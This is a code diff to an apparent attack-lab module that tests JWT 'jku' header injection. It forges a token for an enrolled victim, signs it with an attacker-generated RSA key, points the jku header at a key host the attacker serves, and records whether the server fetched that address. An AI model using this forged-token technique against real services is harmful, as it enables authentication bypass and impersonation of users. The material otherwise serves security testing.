@@ -15,7 +15,7 @@ from threading import Thread
 from jose import jwk, jws
 
 from attacks.lab.attack import attack
-from attacks.lab.forge import claims_about, new_rsa_key
+from attacks.lab.forge import new_rsa_key
 from attacks.lab.outcome import Outcome, got_in, judge
 from attacks.lab.target import Target
 
@@ -62,11 +62,11 @@ def serving(host: KeyHost) -> Iterator[str]:
 def run(target: Target) -> Outcome:
     """Sign with an own key, and name the address of its public half."""
     victim = target.enrol()
-    target.token_of(victim)
-    key = new_rsa_key()
+    claims, key = target.claims_about(victim), new_rsa_key()
     host = KeyHost(key)
     with serving(host) as address:
-        token = jws.sign(claims_about(victim.username), key, {"jku": address}, "RS256")
+        header = target.forged_header(alg="RS256", jku=address)
+        token = jws.sign(claims, key, header, "RS256")
         answer = target.read(token)
     if host.visits and not answer.is_success:
         return got_in("the server fetched an address that the attacker chose")
